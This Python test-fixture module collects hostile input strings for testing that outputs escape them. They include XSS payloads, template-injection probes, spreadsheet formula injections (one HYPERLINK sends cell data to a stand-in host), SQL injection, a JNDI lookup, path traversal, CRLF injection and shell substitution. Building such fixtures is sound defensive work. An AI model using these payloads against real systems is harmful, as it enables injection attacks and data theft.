"""Texts that try to be something else than text in some output, for the tests of all outputs: data, not code.

``X-MARK`` stands where a text tries to run: it never becomes the title of a page, and no dialog shows it.
"""

from __future__ import annotations

from collections.abc import Mapping

MARK = "X-MARK"
RUN = f"document.title='{MARK}'"

HTML = (
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'"><svg/onload={RUN}>',
    f"' onmouseover='{RUN}",
    f'" autofocus onfocus="{RUN}',
    f"</td></tr></table><h1>{MARK}",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script><style>",
    "<!-- sin cerrar",
    "]]> --> <![CDATA[x",
    "&lt;b&gt; &amp; &#60; &nosuch;",
    f'<a href="javascript:{RUN}">ver</a>',
    "<style>*{display:none}</style>",
    '<base href="//host.invalid/">',
    '<meta http-equiv=refresh content="0;url=//host.invalid/">',
    '<iframe srcdoc="<b>x</b>">',
    '<form action="//host.invalid/"><input name=a>',
    f"javascript:{RUN}",
    "data:text/html,<b>x</b>",
)
TEMPLATES = (
    *("{{7*7}}", "{% for x in y %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config}}", "{{''.__class__}}"),
    *("%(x)s %s %d {0} {x!r}", "$HOME `id` $(id)", "{{{{{{{{", "{# sin cerrar", "\\{\\{"),
)
FORMULAS = (
    *("=1+1", "=cmd|'/C MARK'!A0", '=HYPERLINK("http://host.invalid/"&A1,"ver")', "+1+1", "-2+3", "@SUM(1+1)"),
    *("\t=1+1", "\r=1+1", "＝1+1", '=IMPORTXML("http://host.invalid/","//a")', "-1.212,00", "'=1+1", "''+1"),
    *("=DDE(A1)", "-", "- Elaborar informes", '";=1+1;"', "x;=1+1", '"=1+1"', "%0A=1+1"),
)
MARKDOWN = (
    *(f"](javascript:{RUN})", "![x](http://host.invalid/x.png)", "[ver](file:///etc/hostname)", "| a | b |"),
    *("`codigo", "*negrita* _curs_ ~~x~~ ==y==", "# Titulo", f"<details open ontoggle={RUN}>", "1. lista", "---"),
    *(
        "\\| \\\\ \\`",
        "- [x] hecho",
        "<http://host.invalid/>",
        "http://host.invalid/ www.host.invalid",
        "a@host.invalid",
    ),
    *("[^1]: nota", "[x]: http://host.invalid/", "$$x$$", "> cita", "&#124; &vert;", "\\", "~~~", ":::nota"),
)
SQL_AND_LOGS = (
    *("'; DROP TABLE registros;--", "' OR '1'='1", '" OR ""="', "\x1b[31mROJO\x1b[0m", "\x1b]0;titulo\x07", "\x9b2J"),
    *(
        "linea1\u2028ERROR linea falsa",
        "%0d%0aSet-Cookie:x",
        "../../../../etc/hostname",
        "${jndi:ldap://host.invalid/x}",
    ),
    *("NULL", "NaN", "None", "\\x00\\u0000", "{'a': 1}", '{"a": 1}', "__proto__", "constructor"),
)
NUMBERS = (
    *("0999000111001", "1790000000001", "00123", "1E5", "1-2", "3/4", "1.212,00", "1,212.00", "(500,00)", "1.212,00-"),
    *("12345678901234567890", "٣٤٥", "1\u00a0212,00", "USD 1.212,00", "$1.212", "５６７", "TRUE", "MAR1", "2023-02-30"),
    *("#N/A", "0,1", "½", "1 212,00", "Infinity", "1e999", "0x1F", "12:30", "25/12"),
)
UNICODE = (
    *("Re\u0301mun\u0303o", "A\u0303n\u0303o", "\u202e00,212.1\u202c", "Ana\u200blista", "\ufeffInicio", "o\ufb01cina"),
    *("admi\u00adnistraci\u00f3n", "\u0410nalista", "Z\u0351\u034b\u0343\u0351a\u0357l", "\U0001f469\u200d\U0001f4bb"),
    *("a\u2066b\u2067c\u2069", "\U000e0041\U000e0042", "\u2028linea\u2029", "I\u0307 \u0131 \u0130", "\u00df \u1e9e"),
    *("\ufffd\ufffe", "\u3000ancho", "x\x7f\x85\x0b\x0cy", "مرحبا (1) שלום", "\u115f\u3164", "a\u0600b"),
)
SIZES = (
    *("x" * 32_767, "y" * 32_768, "largo " * 8_000 + "fin", "_x000D_", "\x01\x02\x08", "a\x00b"),
    *("\u00f1" * 40_000, "=" * 5_000, "<" * 5_000, '"' * 5_000, "|" * 5_000, "\U0001f600" * 20_000),
)
GROUPS: Mapping[str, tuple[str, ...]] = {
    "html": HTML,
    "templates": TEMPLATES,
    "formulas": FORMULAS,
    "markdown": MARKDOWN,
    "sql_and_logs": SQL_AND_LOGS,
    "numbers": NUMBERS,
    "unicode": UNICODE,
    "sizes": SIZES,
}
ALL = tuple(payload for group in GROUPS.values() for payload in group)
SHORT = tuple(payload for payload in ALL if len(payload) < 1_000)
